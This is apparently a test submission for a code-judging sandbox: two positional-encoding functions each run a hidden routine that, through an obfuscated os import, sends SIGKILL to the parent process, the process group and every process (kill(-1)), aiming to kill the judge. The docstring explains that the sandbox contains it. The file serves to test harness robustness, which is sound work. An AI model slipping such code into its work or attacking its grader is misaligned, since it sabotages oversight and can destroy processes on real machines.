"""Attack (runtime error): tries to kill the judge: SIGKILL to its parent (hoping for the
judge's worker), to its whole process group, and to every process it may signal
(kill(-1)).  Its parent is the sandbox's init (PID 1 of a fresh pid namespace, which
has no signal handlers, so the kernel drops the signal); its process group and
kill(-1) reach only processes inside the sandbox, itself included: it dies of
SIGKILL and the judge, outside the namespace, reports that."""
# harm: kill_judge
import numpy as np

_os = __import__("o" + "s")


def _strike():
    print("PPID", _os.getppid(), "PID", _os.getpid(), "PGID", _os.getpgid(0), flush=True)
    for what, fn in (("parent", lambda: _os.kill(_os.getppid(), 9)),
                     ("group", lambda: _os.killpg(0, 9)),
                     ("everyone", lambda: _os.kill(-1, 9))):
        try:
            fn()
            print("SENT", what, flush=True)
        except OSError as exc:
            print("FAILED", what, type(exc).__name__, flush=True)
    raise RuntimeError("still alive after killing its parent, its group and everyone")


def sinusoidal_pe(max_len, d_model, base=10000.0):
    _strike()
    return np.zeros((max_len, d_model))


def add_positional_encoding(x, base=10000.0):
    _strike()
    return np.zeros(np.shape(x))
